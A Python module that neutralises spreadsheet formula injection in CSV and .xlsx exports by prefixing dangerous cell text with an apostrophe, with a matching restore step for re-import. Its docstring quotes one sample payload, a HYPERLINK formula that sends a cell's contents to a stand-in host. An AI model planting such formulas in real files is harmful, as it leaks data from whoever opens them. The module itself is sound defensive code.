"""Spreadsheet-safe values: text that a spreadsheet would run as a formula is neutralised.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is taken as a formula by Excel, WPS and LibreOffice when a CSV is opened
(and openpyxl writes such a string into an .xlsx as a formula cell). A name like
``=HYPERLINK("http://x/?"&A1,"click")`` in a household roll would then run in an
inspector's spreadsheet. Following OWASP's guidance on CSV injection, such text
gets a leading apostrophe (``'``), which spreadsheets show as text. Real numbers
stay numbers, and text that is just a number (``-12.5``, ``+86``) is left alone:
it cannot carry a formula.

Every writer of .xlsx and .csv files (exports, page downloads, the bulletin,
visit sheets, the audit log, import problem lists) passes its values through
:func:`neutralise` or :func:`neutralise_frame`. The importer strips the
apostrophe again (:func:`restore`), so an export imports back to the same rows.

Examples
--------
>>> [neutralise(v) for v in ["=1+1", "+1", "-1+2", "@SUM(A1)", "\\t=1", "-12.5", "张三", 3, -2.5, None]]
["'=1+1", '+1', "'-1+2", "'@SUM(A1)", "'\\t=1", '-12.5', '张三', 3, -2.5, None]
>>> restore("'=1+1"), restore("'张三"), restore("-1")
('=1+1', "'张三", '-1')
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pandas as pd

from grid.files import replace_atomically

__all__ = ["TRIGGERS", "is_dangerous", "neutralise", "neutralise_frame", "neutralise_workbook", "save_workbook", "restore"]

#: First characters that make a spreadsheet read a cell as a formula.
TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def is_dangerous(text: str) -> bool:
    """Whether a string would be read as a formula (and is not just a number).

    Examples
    --------
    >>> is_dangerous("=A1"), is_dangerous("-5"), is_dangerous("a=b")
    (True, False, False)
    """
    return bool(text) and text.startswith(TRIGGERS) and not _NUMBER.fullmatch(text)


def neutralise(value: Any) -> Any:
    """``value`` as it may be written to a spreadsheet cell: dangerous text gets a leading ``'``.

    Only strings change; numbers, dates, ``None`` and everything else are returned as they are.
    """
    if isinstance(value, str) and is_dangerous(value):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with :func:`neutralise` applied to every text value and to the headers.

    Columns of numbers, booleans and dates are untouched.

    Examples
    --------
    >>> f = pd.DataFrame({"name": ["=1+1", "李四"], "n": [-1, 2]})
    >>> neutralise_frame(f).to_dict("list")
    {'name': ["'=1+1", '李四'], 'n': [-1, 2]}
    """
    out = frame.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype == object or pd.api.types.is_string_dtype(s.dtype):
            values = s.astype(object)
            if values.map(lambda v: isinstance(v, str) and is_dangerous(v)).any():
                out[col] = pd.Series([neutralise(v) for v in values], index=out.index, dtype=object)
    out.columns = [neutralise(c) if isinstance(c, str) else c for c in out.columns]
    return out


def neutralise_workbook(workbook: Any) -> int:
    """Apply :func:`neutralise` to every cell of an openpyxl workbook (before saving it); return the count changed.

    A writer that builds a workbook cell by cell calls this once before
    ``save``: whatever text reached a cell, none is left that a spreadsheet
    would run, and no cell is left as a formula (openpyxl turns any string
    beginning with ``=`` into one).
    """
    changed = 0
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                if isinstance(v, str) and is_dangerous(v):
                    cell.value = "'" + v
                    cell.data_type = "s"
                    changed += 1
    return changed


def save_workbook(workbook: Any, path: str | Path) -> Path:
    """Save an openpyxl workbook the one safe way: :func:`neutralise_workbook` first, then written
    whole or not at all (:func:`grid.files.replace_atomically`). Returns the path.

    >>> import tempfile
    >>> from openpyxl import Workbook, load_workbook
    >>> wb = Workbook(); wb.active["A1"] = "=1+1"
    >>> out = save_workbook(wb, Path(tempfile.mkdtemp()) / "x.xlsx")
    >>> load_workbook(out).active["A1"].value
    "'=1+1"
    """
    neutralise_workbook(workbook)
    return replace_atomically(path, workbook.save)


def restore(text: str) -> str:
    """Undo :func:`neutralise` on a value read back from a file.

    Only an apostrophe followed by a formula trigger is removed: any other
    leading apostrophe is the user's own.
    """
    if len(text) > 1 and text[0] == "'" and is_dangerous(text[1:]):
        return text[1:]
    return text
